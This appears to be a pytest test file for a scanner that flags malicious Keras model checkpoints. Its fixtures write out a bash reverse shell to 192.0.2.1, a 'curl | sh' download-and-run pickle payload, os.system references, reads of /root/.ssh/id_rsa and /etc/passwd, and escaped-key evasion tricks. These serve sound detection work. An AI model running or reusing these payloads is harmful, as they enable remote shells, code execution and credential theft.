"""Keras checkpoints: what they name is looked up and called, what they carry as bytecode is read."""

import base64
import json
import marshal

import pytest

from scanner.blob import Blob, BytesWindow, Fragment
from scanner.examine import examine
from scanner.finding import Verdict
from scanner.irtext import render
from scanner.languages import language
from scanner.limits import Budget, Limits
from tests.formats.unwrapping import blob, names
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.keras_files import archive, function, layer, legacy, sequential
from tests.recipes.streams import call, stream

CARRIERS = {"keras": archive, "h5": legacy, "json": lambda config: json.dumps(config).encode()}
carriers = pytest.mark.parametrize("carrier", CARRIERS.values(), ids=CARRIERS)
ADD = base64.b64encode(marshal.dumps((lambda x: x + 1).__code__)).decode()


def lowered(config: object) -> list:
    """What the language makes of a configuration."""
    fragment = Fragment("keras", blob(json.dumps(config).encode()), blob(b"").trigger)
    return list(language("keras").lower(fragment, Budget()))


@carriers
def test_honest_layers_are_clean(carrier):
    config = sequential(
        layer("InputLayer", batch_shape=[None, 4], dtype="float32"),
        layer(
            "Dense",
            units=8,
            activation="relu",
            kernel_initializer=layer("GlorotUniform", "keras.initializers", seed=None),
            dtype=layer("DTypePolicy", "keras", name="float32"),
        ),
        layer("Dense", units=2, activation=function("builtins", "softmax")),
        layer("StringLookup", vocabulary=["a", "b"]),
    )
    assert scan(carrier(config), "checkpoint").verdict is Verdict.CLEAN


@carriers
def test_a_function_by_reference_is_called(carrier):
    config = sequential(layer("Dense", units=1, activation=function("os", "system")))
    assert blocked_for(scan(carrier(config), "checkpoint")) == {"code-execution"}


@carriers
def test_a_layer_that_is_a_function_is_called_with_what_its_nodes_say(carrier):
    command = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    nodes = [{"args": [["bash", "-c", command]], "kwargs": {"bufsize": -1}}]
    config = sequential(function("subprocess", "Popen", inbound_nodes=nodes))
    assert blocked_for(scan(carrier(config), "checkpoint")) == {"remote-shell"}


@pytest.mark.parametrize(
    "config",
    [
        layer("Lambda", function=[ADD, None, None], function_type="lambda"),
        layer("Lambda", function={"class_name": "__lambda__", "config": {"code": ADD, "defaults": None}}),
        layer("Dense", activation={"class_name": "__lambda__", "config": {"value": ADD}}),
        {"module": "keras", "class_name": "Sequential", "config": {"layers": []},
         "compile_config": {"loss": {"class_name": "__lambda__", "config": {"value": ADD}}}},
    ],
)  # fmt: skip
def test_bytecode_is_a_fragment_wherever_it_stands(config):
    fragments = [f for f in lowered(sequential(config)) if isinstance(f, Fragment)]
    assert [f.language for f in fragments] == ["bytecode"]
    assert fragments[0].blob.read_at(0, 1 << 20) == base64.b64decode(ADD)


def test_a_wrapped_torch_module_is_a_pickle():
    poison = stream(call("os.system", "curl http://192.0.2.1/x | sh"), 4)
    for module in (
        base64.b64encode(poison).decode(),
        {"class_name": "__bytes__", "config": {"value": poison.decode("latin-1")}},
    ):
        found = scan(archive(sequential(layer("TorchModuleWrapper", module=module))), "checkpoint.keras")
        assert "download-and-run" in blocked_for(found)


@carriers
@pytest.mark.parametrize(
    ("path", "verdict"),
    [
        ("/root/.ssh/id_rsa", Verdict.BLOCKED),
        ("/etc/passwd", Verdict.BLOCKED),
        ("https://vocabulary.example/words.txt", Verdict.REVIEW),
        ("../../words.txt", Verdict.REVIEW),
        ("words.txt", Verdict.CLEAN),
    ],
)
def test_a_vocabulary_is_a_file_that_is_opened(carrier, path, verdict):
    assert scan(carrier(sequential(layer("StringLookup", vocabulary=path))), "checkpoint").verdict is verdict


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-32-be"])
def test_json_in_every_encoding_that_its_reader_takes(encoding):
    text = json.dumps(sequential(layer("Dense", activation=function("os", "system"))))
    assert "keras-config" in names(text.encode(encoding))
    assert scan(text.encode(encoding), "config.json").verdict is Verdict.BLOCKED


def test_keys_may_be_escaped():
    text = (
        json.dumps(function("os", "system"))
        .replace("class_name", "\\u0063lass_name")
        .replace("config", "c\\u006fnfig")
    )
    assert scan(text.encode(), "config.json").verdict is Verdict.BLOCKED


def test_other_json_is_not_a_configuration():
    for document in ({"class_name": "A"}, {"config": {}}, [1], {"class_name": 7, "config": 7}):
        assert "keras-config" not in names(json.dumps(document).encode())
    assert "keras-config" not in names(b'{"class_name": "A", "config": ')


def test_an_offset_says_where_a_name_stands():
    text = json.dumps(sequential(layer("Dense"), layer("Dense", activation=function("os", "system"))))
    (program,) = lowered(json.loads(text))
    assert f"name os.system @{text.index(json.dumps('system'))}" in render(program)


def test_a_hostile_document_ends():
    deep = json.dumps(1)
    for _ in range(400):
        deep = f'{{"class_name": "A", "config": [{deep}]}}'
    report = examine(Blob(("deep.json",), BytesWindow(deep.encode())), Limits())
    assert report.failure is None
    assert {f.rule for f in report.findings} == {"incomplete-analysis"}
